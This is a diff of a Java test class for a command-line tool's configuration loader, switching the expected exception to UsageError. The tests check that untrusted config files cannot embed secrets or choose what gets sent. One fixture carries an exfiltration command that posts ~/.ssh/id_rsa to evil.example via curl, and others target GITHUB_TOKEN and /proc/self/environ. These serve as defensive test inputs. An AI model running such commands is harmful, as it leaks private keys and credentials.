@@ -55,7 +55,7 @@ class KitConfigurationTest {
         }
     }
 
-    private FakeCheck runCheck(Map<String, String> env, String... args) throws ConfigException {
+    private FakeCheck runCheck(Map<String, String> env, String... args) throws UsageError {
         CommandLine root = new CommandLine(new Root());
         KitConfiguration.install(root, env, dir, args);
         assertEquals(0, root.execute(args));
@@ -107,7 +107,7 @@ class KitConfigurationTest {
     @Test
     void anUnknownKeyIsAnErrorNamingItAndTheNearestValidKey() throws Exception {
         file("check:\n  base-ulr: https://typo.example\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("'check.base-ulr'"), error.getMessage());
         assertTrue(error.getMessage().contains("did you mean 'base-url'?"), error.getMessage());
     }
@@ -115,7 +115,7 @@ class KitConfigurationTest {
     @Test
     void anUnknownCommandSectionSuggestsTheNearestCommand() throws Exception {
         file("chek:\n  base-url: https://typo.example\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("'chek'") && error.getMessage().contains("did you mean 'check'?"),
                 error.getMessage());
     }
@@ -123,7 +123,7 @@ class KitConfigurationTest {
     @Test
     void aSecretValueInTheFileIsRejectedSayingHowToReferenceIt() throws Exception {
         file("check:\n  secret: hunter2-the-actual-secret\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("check.secret") && error.getMessage().contains("secret-env")
                 && error.getMessage().contains("secret-file"), error.getMessage());
         assertFalse(error.getMessage().contains("hunter2"), "the value must not be echoed");
@@ -132,7 +132,7 @@ class KitConfigurationTest {
     @Test
     void aTokenValueInTheFileIsRejectedPointingToTheTokenCommand() throws Exception {
         file("check:\n  token: eyJhbGciOi-a-real-token\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("check.token") && error.getMessage().contains("token-command"),
                 error.getMessage());
         assertFalse(error.getMessage().contains("eyJhbGciOi"), "the value must not be echoed");
@@ -141,7 +141,7 @@ class KitConfigurationTest {
     @Test
     void aSecretValueInTheFileIsPointedAtTheReferencesThatExistAndDescribesEachOne() throws Exception {
         file("check:\n  secret: s3cr3t-value\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("secret-env (an environment variable name)")
                 && error.getMessage().contains("secret-file (a file path)"), error.getMessage());
         assertFalse(error.getMessage().contains("a command that prints it"),
@@ -152,14 +152,14 @@ class KitConfigurationTest {
     @Test
     void aSecretLookingKeyThatNoCommandHasIsRejectedAsASecretNotAsATypo() throws Exception {
         file("check:\n  client-secret: s3cr3t-value\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("would hold a secret value"), error.getMessage());
     }
 
     @Test
     void anImplicitFileMayNotRunACommandAndTheErrorSaysWhyAndHowToFixIt() throws Exception {
         file("check:\n  base-url: https://partner.example\n  token-command: curl -d @$HOME/.ssh/id_rsa evil.example\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         String message = error.getMessage();
         assertTrue(message.contains("check.token-command runs a command"), message);
         assertTrue(message.contains("found in the working directory") && message.contains("untrusted pull request"), message);
@@ -171,7 +171,7 @@ class KitConfigurationTest {
     @Test
     void anImplicitFileMayNotChooseWhichEnvironmentVariableIsSentAsTheSecret() throws Exception {
         file("check:\n  secret-env: GITHUB_TOKEN\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("check.secret-env chooses which environment variable is sent"),
                 error.getMessage());
     }
@@ -179,7 +179,7 @@ class KitConfigurationTest {
     @Test
     void anImplicitFileMayNotChooseWhichFileIsSentAsTheSecret() throws Exception {
         file("check:\n  secret-file: /proc/self/environ\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains("check.secret-file chooses which file is sent"), error.getMessage());
     }
 
@@ -214,7 +214,7 @@ class KitConfigurationTest {
 
     @Test
     void anUnknownEnvironmentVariableForTheCommandIsAnErrorWithASuggestion() {
-        ConfigException error = assertThrows(ConfigException.class,
+        UsageError error = assertThrows(UsageError.class,
                 () -> runCheck(Map.of("HUBBLE_KIT_CHECK_TIMEOUTS", "3s"), "check"));
         assertTrue(error.getMessage().contains("HUBBLE_KIT_CHECK_TIMEOUTS")
                 && error.getMessage().contains("HUBBLE_KIT_CHECK_TIMEOUT?"), error.getMessage());
@@ -223,13 +223,13 @@ class KitConfigurationTest {
     @Test
     void malformedYamlIsAnErrorNamingTheFile() throws Exception {
         file("check:\n  base-url: [unclosed\n");
-        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check"));
         assertTrue(error.getMessage().contains(KitConfiguration.FILE_NAME), error.getMessage());
     }
 
     @Test
     void aMissingExplicitConfigFileIsAnError() {
-        ConfigException error = assertThrows(ConfigException.class,
+        UsageError error = assertThrows(UsageError.class,
                 () -> runCheck(Map.of(), "check", "--config", "nowhere.yaml"));
         assertTrue(error.getMessage().contains("nowhere.yaml"), error.getMessage());
     }
